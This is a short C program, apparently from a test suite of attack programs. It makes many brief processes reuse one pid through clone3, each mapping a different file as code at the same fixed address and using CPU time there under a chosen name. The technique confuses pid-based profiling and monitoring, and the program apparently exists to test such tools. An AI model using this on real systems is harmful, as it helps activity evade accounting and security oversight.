/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Uses one pid again and again: each process with it lives for a few milliseconds, maps another file as code
 * at the same address as the one before, and uses CPU time there.
 *
 *	pid_reuse FILE FUNCTION FILE FUNCTION
 *
 * A process is named after the function that it calls, which is at the start of its file's second page.
 */
#include <errno.h>
#include <fcntl.h>
#include <linux/sched.h>
#include <sys/mman.h>
#include <sys/syscall.h>

#include "attack.h"

enum {
	MS = 4, /* that a process lives */
};

static void *const address = (void *)0x600000000000;

static void use_cpu_time(int file, const char *name)
{
	attack_drop_privileges();
	prctl(PR_SET_NAME, name);
	if (mmap(address, ATTACK_PAGE, PROT_READ | PROT_EXEC, MAP_PRIVATE | MAP_FIXED_NOREPLACE, file, ATTACK_PAGE) != address)
		_exit(1);
	attack_call_code(address, MS);
	_exit(0);
}

static pid_t fork_with_pid(pid_t wanted)
{
	struct clone_args args = {.exit_signal = SIGCHLD, .set_tid = (uintptr_t)&wanted, .set_tid_size = 1};

	return (pid_t)syscall(SYS_clone3, &args, sizeof(args));
}

int main(int argc, char **argv)
{
	const int files[] = {open(argc == 5 ? argv[1] : "", O_RDONLY), open(argc == 5 ? argv[3] : "", O_RDONLY)};
	int status = 0;

	attack_die_with_parent();
	if (files[0] < 0 || files[1] < 0)
		attack_fail("files");
	/* The pid is that of a first child, which the kernel does not give to others soon. */
	const pid_t pid = fork();
	if (!pid)
		_exit(0);
	waitpid(pid, NULL, 0);
	for (unsigned long i = 0;; i++) {
		const pid_t child = fork_with_pid(pid);

		if (!child)
			use_cpu_time(files[i & 1], argv[2 + 2 * (i & 1)]);
		if (child < 0 && errno != EEXIST)
			attack_fail("clone3");
		if (child > 0 && (waitpid(child, &status, 0) < 0 || status))
			attack_fail("child");
		if (!i)
			attack_say_ready();
	}
}
